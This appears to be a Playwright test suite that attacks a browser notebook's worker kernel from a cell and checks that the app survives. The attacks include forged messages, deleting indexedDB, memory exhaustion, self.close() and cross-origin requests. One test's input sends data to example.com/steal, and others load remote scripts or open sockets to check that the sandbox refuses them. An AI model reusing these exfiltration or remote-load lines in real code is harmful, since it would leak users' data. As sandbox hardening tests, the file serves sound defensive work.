// Hostile suite (issue 11), the kernel: attacks a cell can make on the worker that runs it. Each one
// edits the first cell first, attacks from the second, then checks the message, that the page still
// answers, and that the edit is still there.
import { expect, test, type Locator, type Page } from '../fixtures';
import { codeCell, setSource, waitIdle } from '../helpers';
import { editBeforeAttack, expectEditKept, expectResponsive, marker } from './common';

/** Edits cell 0, then runs `code` in cell 1 and waits for it to end; returns cell 1 and the time the run took. */
async function attack(page: Page, name: string, code: string, timeout = 60_000): Promise<{ cell: Locator; mark: string; ms: number }> {
  const mark = marker(name);
  await editBeforeAttack(page, mark);
  const cell = codeCell(page, 1);
  await setSource(page, cell, code);
  const t0 = Date.now();
  await runIn(page, cell, null, timeout);
  return { cell, mark, ms: Date.now() - t0 };
}

/** Runs `code` (or what the cell holds) in `cell` and waits for that run to end (a fast one may
 * never be seen running: its execution count changes). */
async function runIn(page: Page, cell: Locator, code: string | null, timeout = 60_000): Promise<void> {
  if (code !== null) await setSource(page, cell, code);
  const count = await cell.getByTestId('exec-count').textContent();
  await cell.getByTestId('run-cell').click();
  await expect(cell.getByTestId('exec-count')).not.toHaveText(count ?? '', { timeout });
  await waitIdle(cell, timeout);
}

test('a forged `done` on the worker\'s channel is ignored: later outputs still arrive and the cell ends at its real end', async ({ page }) => {
  const { cell, mark } = await attack(page, 'forged', [
    "show.text('before')",
    "self.postMessage({ type: 'done', runId: 2, status: 'ok' })",
    "self.postMessage({ type: 'outputs', runId: 2, outputs: [{ id: 'x', kind: 'text', text: 'FORGED' }] })",
    'await sleep(300)',
    "show.text('after')",
    "'end'",
  ].join('\n'));
  await expect(cell).toHaveAttribute('data-result', 'ok');
  await expect(cell.getByTestId('out-text')).toHaveText(['before', 'after', 'end']);
  await expect(cell.getByTestId('out-error')).toHaveText(/una celda envió un mensaje a la página; se ignoró/);
  await expect(cell.getByTestId('outputs').getByText('FORGED')).toHaveCount(0);
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('`show = 5` breaks only that cell: the note says so and the next cell has show back', async ({ page }) => {
  const { cell, mark } = await attack(page, 'show', 'show = 5\ntrain = null\n1');
  await expect(cell.getByTestId('out-text').last()).toHaveText('esta celda reemplazó `train`, `show`; las celdas siguientes reciben los originales');
  const next = codeCell(page, 2);
  await runIn(page, next, "show.text('show works')\ntypeof train");
  await expect(next).toHaveAttribute('data-result', 'ok');
  await expect(next.getByTestId('out-text')).toHaveText(['show works', 'function']);
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('indexedDB is out of cells\' reach: deleteDatabase is refused with a message, and the saved edit survives a reload', async ({ page }) => {
  const { cell, mark } = await attack(page, 'idb', "indexedDB.deleteDatabase('paralelo')");
  await expect(cell).toHaveAttribute('data-result', 'error');
  await expect(cell.getByTestId('out-error')).toContainText('las celdas no pueden usar indexedDB: guarda tus ediciones');
  await runIn(page, cell, "const p = Object.getPrototypeOf(Object.getPrototypeOf(self));\n[typeof Object.getOwnPropertyDescriptor(p, 'indexedDB'), typeof IDBFactory]");
  await expect(cell.getByTestId('out-text')).toContainText('"undefined"');
  await expectResponsive(page);
  await expectEditKept(page, mark, { reload: true });
});

test('an error thrown later by code a cell left running goes to that cell; the kernel is not taken for crashed', async ({ page }) => {
  const { cell, mark } = await attack(page, 'late', [
    'var still = 7',
    "setTimeout(() => { throw new Error('late boom') }, 0)",
    "Promise.reject(new Error('unawaited'))",
    'await sleep(300)',
    "'end'",
  ].join('\n'));
  await expect(cell).toHaveAttribute('data-result', 'ok');
  await expect(cell.getByTestId('out-error')).toHaveCount(2);
  for (const m of ['late boom', 'unawaited']) await expect(cell.getByTestId('out-error').filter({ hasText: `un error en código que la celda dejó en marcha: ${m}` })).toHaveCount(1);
  await expect(page.getByTestId('banner')).toHaveCount(0); // no restart
  await runIn(page, cell, 'still * 6');
  await expect(cell.getByTestId('out-text')).toHaveText('42');
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('fetch to another origin is refused with a message; the app\'s own address still works', async ({ page }) => {
  const { cell, mark } = await attack(page, 'fetch', [
    "const own = await fetch('/mnist/')",
    "show.text('own ' + (own.status > 0))",
    "await fetch('https://example.com/steal?x=1')",
  ].join('\n'));
  await expect(cell).toHaveAttribute('data-result', 'error');
  await expect(cell.getByTestId('out-text')).toHaveText('own true');
  await expect(cell.getByTestId('out-error')).toContainText('las celdas solo pueden acceder a la dirección de esta app; se rechazó https://example.com/steal?x=1');
  for (const code of ["importScripts('https://example.com/x.js')", "new XMLHttpRequest().open('GET', 'https://example.com/')", "new WebSocket('wss://example.com/')", "new EventSource('//example.com/')"]) {
    await runIn(page, cell, code);
    await expect(cell.getByTestId('out-error'), code).toContainText('se rechazó');
  }
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('20,000 show.text calls: 200 lines, the rest folded with a count, the page answers all along', async ({ page }) => {
  const mark = marker('lines');
  await editBeforeAttack(page, mark);
  const cell = codeCell(page, 1);
  // the lines stream for about a second (a pause every 500), so the page takes many batches
  await setSource(page, cell, 'for (let i = 0; i < 20000; i++) { show.text(`line ${i}`); if (i % 500 === 499) await sleep(20) }\n"done"');
  // the longest gap between two painted frames while the cell runs
  await page.evaluate(() => {
    const w = window as unknown as { gap: { worst: number; frames: number; on: boolean } };
    w.gap = { worst: 0, frames: 0, on: true };
    let last = performance.now();
    const tick = (now: number) => {
      w.gap.worst = Math.max(w.gap.worst, now - last);
      w.gap.frames++;
      last = now;
      if (w.gap.on) requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
  });
  const t0 = Date.now();
  await cell.getByTestId('run-cell').click();
  await waitIdle(cell, 60_000);
  const ms = Date.now() - t0;
  const gap = await page.evaluate(() => { const w = window as unknown as { gap: { worst: number; frames: number; on: boolean } }; w.gap.on = false; return w.gap; });
  console.log(`20,000 show.text: ${ms} ms from Run to idle; longest gap between frames ${gap.worst.toFixed(0)} ms over ${gap.frames} frames`);
  expect(gap.frames).toBeGreaterThan(5);
  expect(gap.worst).toBeLessThan(1000);
  await expect(cell).toHaveAttribute('data-result', 'ok');
  await expect(cell.getByTestId('out-more')).toContainText('+19.800 líneas más');
  await expect(cell.getByTestId('out-text').last()).toHaveText('done');
  await expect(cell.getByTestId('out-text')).toHaveCount(201);
  await cell.getByTestId('show-more').click();
  await expect(cell.getByTestId('out-more')).toContainText('+19.600 líneas más');
  await expect(cell.getByText('line 399', { exact: false })).toBeVisible();
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('a 200k-point chart is downsampled in the kernel, says so, and is drawn with the page answering', async ({ page }) => {
  const mark = marker('chart');
  await editBeforeAttack(page, mark);
  const cell = codeCell(page, 1);
  // the chart's code is loaded once beforehand, so the time below is the kernel's work and the drawing
  await runIn(page, cell, "show.chart({ kind: 'line', title: 'small', data: [{ x: 0, y: 0 }, { x: 1, y: 1 }], x: 'x', y: ['y'] })");
  await expect(cell.locator('.recharts-line-curve')).toBeVisible();
  await setSource(page, cell, [
    'const data = Array.from({ length: 200000 }, (_, i) => ({ x: i, y: Math.sin(i / 1000) + (i === 123457 ? 5 : 0) }))',
    "show.chart({ kind: 'line', title: 'big', data, x: 'x', y: ['y'] })",
  ].join('\n'));
  await page.evaluate(() => {
    (window as unknown as { longTasks: number[] }).longTasks = [];
    new PerformanceObserver((l) => { for (const e of l.getEntries()) (window as unknown as { longTasks: number[] }).longTasks.push(Math.round(e.duration)); }).observe({ type: 'longtask' });
  });
  const t0 = Date.now();
  await cell.getByTestId('run-cell').click();
  const chart = cell.getByTestId('chart-line');
  await expect(chart).toHaveAttribute('aria-label', 'big', { timeout: 60_000 });
  await expect(chart.locator('.recharts-line-curve')).toBeVisible();
  const ms = Date.now() - t0;
  console.log('long tasks on the page (ms):', await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks));
  await waitIdle(cell);
  await expect(cell).toHaveAttribute('data-result', 'ok');
  const points = Number(await chart.getAttribute('data-points'));
  expect(points).toBeLessThanOrEqual(2000);
  const shown = await page.evaluate((n) => n.toLocaleString('es-ES', { useGrouping: true }), points); // the page's grouping
  await expect(chart.locator('.chart-note')).toHaveText(`reducido de 200.000 a ${shown} puntos`);
  console.log(`200k-point chart: ${ms} ms from Run to drawn (building the data in the cell included), ${points} points drawn`);
  // the 2 s target is a speed target: `npm run bench load` times it (median of 3 fresh pages). Here a
  // bound ten times looser only says the kernel did not hang or send the 200,000 points to the page
  expect(ms).toBeLessThan(20_000);
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('a 10 MB string as the last value shows its first 100 kB with "show more" and "download"', async ({ page }) => {
  const { cell, mark } = await attack(page, 'bigstr', "'x'.repeat(10 * 1024 * 1024)");
  await expect(cell).toHaveAttribute('data-result', 'ok');
  await expect(cell.getByTestId('out-more')).toContainText('+9.9 MB más de texto');
  expect((await cell.getByTestId('out-text').textContent())!.length).toBe(100_000);
  await cell.getByTestId('show-more').click();
  expect((await cell.getByTestId('out-text').textContent())!.length).toBe(200_000);
  const download = page.waitForEvent('download');
  await cell.getByTestId('download-text').click();
  expect((await download).suggestedFilename()).toBe('output.txt');
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('a runaway allocation and endless recursion end the cell with a clear message; the kernel keeps its variables', async ({ page }) => {
  const mark = marker('alloc');
  await editBeforeAttack(page, mark);
  const cell = codeCell(page, 1);
  await runIn(page, cell, 'var kept = 41\nnew Float64Array(2 ** 31)');
  await expect(cell).toHaveAttribute('data-result', 'error');
  await expect(cell.getByTestId('out-error')).toContainText('la celda pidió más memoria de la que permite el navegador');
  await runIn(page, cell, 'function f(n) { return f(n + 1) + 1 }\nf(0)');
  await expect(cell).toHaveAttribute('data-result', 'error');
  await expect(cell.getByTestId('out-error')).toContainText('las llamadas se anidaron demasiado');
  await runIn(page, cell, 'kept + 1');
  await expect(cell.getByTestId('out-text')).toHaveText('42');
  await expectResponsive(page);
  await expectEditKept(page, mark);
});

test('`self.close()` kills the kernel: the page notices, restarts it and names the cells whose variables are gone', async ({ page }) => {
  const mark = marker('close');
  await editBeforeAttack(page, mark);
  await runIn(page, codeCell(page, 0), null);
  const cell = codeCell(page, 1);
  await runIn(page, cell, 'var v = 1\nself.close()\nawait sleep(5000)\n"never"');
  await expect(cell).toHaveAttribute('data-result', 'error');
  await expect(cell.getByTestId('out-error')).toContainText('el kernel se detuvo mientras esta celda se ejecutaba');
  await expect(page.getByTestId('banner')).toContainText('El kernel se detuvo');
  await expect(page.getByTestId('banner')).toContainText('Las variables definidas por las celdas [1] [2] ya no existen');
  await runIn(page, cell, 'typeof v');
  await expect(cell.getByTestId('out-text')).toHaveText('undefined');
  await expectResponsive(page);
  await expectEditKept(page, mark);
});
